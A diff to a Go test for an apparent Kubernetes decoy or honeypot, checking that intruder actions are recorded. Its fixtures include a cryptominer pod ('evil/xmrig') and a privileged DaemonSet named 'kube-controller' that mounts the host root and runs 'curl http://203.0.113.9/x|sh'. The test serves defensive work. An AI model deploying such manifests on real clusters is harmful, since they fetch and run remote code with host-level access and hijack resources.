@@ -144,7 +144,7 @@ func TestWhatAnIntruderCreatesIsRecordedAndShown(t *testing.T) {
 	contains(t, out, "pod/miner created")
 	d.Wait("k8s_change", decoytest.Has("verb", "create"), decoytest.Has("resource", "pods"), decoytest.Has("image", "evil/xmrig"), decoytest.Has(event.Command, "/xmrig -o pool:3333"))
 	out, _ = kubectl(t, d, "", "get", "pods")
-	contains(t, out, "miner", "1/1", "Running", "0s")
+	contains(t, out, "miner", "1/1", "Running")
 	const set = `{"apiVersion":"apps/v1","kind":"DaemonSet","metadata":{"name":"kube-controller"},"spec":{"selector":{"matchLabels":{"a":"b"}},"template":{"metadata":{"labels":{"a":"b"}},"spec":{"hostPID":true,
 		"containers":[{"name":"x","image":"alpine","command":["sh","-c","curl http://203.0.113.9/x|sh"],"securityContext":{"privileged":true}}],"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}}}`
 	file := filepath.Join(t.TempDir(), "set.json")
